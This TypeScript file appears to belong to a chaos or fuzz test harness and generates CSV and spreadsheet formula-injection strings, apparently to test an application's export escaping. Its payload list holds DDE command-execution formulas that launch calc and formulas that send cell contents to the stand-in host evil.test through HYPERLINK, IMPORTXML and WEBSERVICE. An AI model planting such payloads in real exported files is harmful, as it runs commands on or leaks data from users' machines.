import type { Random } from '../../../chaos/harness/random.ts'

const SIGNS = ['=', '+', '-', '@', '|', '＝', '＋', '－', '＠', '﹣', '−', "'=", "''+", "'"]
/** What some readers skip before they look for a sign, or begin a new cell or row behind. */
const LEADS = [
  ...['', '', '', ' ', '  ', '\t', '\r', '\n', '\r\n', '\t\t', '\u00A0', '\u3000', '\uFEFF'],
  ...['\u200B', '\u200E', '\u202E', '\u2060', '\u00AD', '\u3164', '\u0001', '\u0085', '\u2028'],
  ...["'", '"', '""', ';', ',', '\uFE0F', 'a;', 'a,', 'a\t', 'a\n', 'a\r', '1;\uFEFF', '"\r\n'],
]
const PAYLOADS = [
  ...['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.test/?"&A1,"click")', 'SUM(1+1)*cmd'],
  ...['IMPORTXML(CONCAT("http://evil.test/",A2),"//a")', 'DDE("cmd";"/C calc";"x")', '2+3', ''],
  ...['@SUM(1)', '-1', '62812000', 'WEBSERVICE("http://evil.test")', '1\n=2', '1;=2;3', '1\t=2'],
]
const CALM = [
  ...['mau kak', 'Sari', '💚 ﷽ 小店', '"', '""', '","', '\r\n', ',,,', "'", '\\"', 'نعم', '"=1"'],
  ...['a "quoted", text', 'line\nbreak', ' blanks ', 'e\u0301', '0812', '1E5', 'TRUE', '#N/A'],
]

/** A text that tries to be a formula, or to break the file; without what no database stores. */
export function hostileText(random: Random, mostCharacters: number): string {
  const attack = () => `${random.pick(LEADS)}${random.pick(SIGNS)}${random.pick(PAYLOADS)}`
  const parts = Array.from({ length: random.between(1, 3) }, () =>
    random.chance(0.7) ? attack() : `${random.pick(LEADS)}${random.pick(CALM)}`,
  )
  if (random.chance(0.02)) parts.push(random.pick(['=', '"', 'a,']).repeat(mostCharacters))
  const text = parts.join(random.pick(['', ' ', ',', ';', '\n', '"']))
  // Cut between characters: half of one would not be stored as it is.
  return [...text].slice(0, Math.floor(mostCharacters / 2)).join('')
}

/** A code that tries to be a formula, the first one plainly; different from all others by its number. */
export function hostileCode(random: Random, number: number): string {
  const sign = number === 0 ? '=' : random.pick(SIGNS)
  return `${sign}${random.pick(['', ' ', '"', ';=', ',', "'"])}QZ${number}Z`
}
